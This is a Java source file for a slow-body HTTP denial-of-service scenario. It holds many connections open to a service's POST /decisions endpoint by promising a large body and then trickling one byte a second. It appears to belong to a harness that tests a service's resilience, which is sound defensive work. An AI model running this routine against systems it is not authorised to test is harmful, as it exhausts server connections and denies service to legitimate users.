package dev.vitrine.packaged;

import java.io.IOException;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;

/** Connections that each send one byte of a body a second. */
record SlowBodies(Attackers attackers, String key, int connections) implements Attack {
    private static final String BEGINNING =
            "POST /decisions HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n";
    private static final long A_SECOND = 1000;

    @Override
    public String title() {
        return "bodies of one byte a second";
    }

    @Override
    public void run(Deadline until, Answers answers) throws Exception {
        List<HttpConnection> open = new ArrayList<>();
        try {
            while (!until.isOver()) {
                while (open.size() < connections) {
                    HttpConnection connection = attackers.connect();
                    open.add(connection);
                    connection.send(BEGINNING + "Authorization: Bearer " + key + "\r\n\r\n");
                }
                for (Iterator<HttpConnection> each = open.iterator(); each.hasNext(); ) {
                    HttpConnection connection = each.next();
                    if (!goesOn(connection, answers)) {
                        connection.close();
                        each.remove();
                    }
                }
                Thread.sleep(A_SECOND);
            }
        } finally {
            for (HttpConnection connection : open) {
                connection.close();
            }
        }
    }

    private static boolean goesOn(HttpConnection connection, Answers answers) {
        try {
            if (!connection.hasAnswer()) {
                connection.send(" ");
                return true;
            }
            answers.add(connection.answer());
        } catch (IOException e) {
            answers.add(e);
        }
        return false;
    }
}
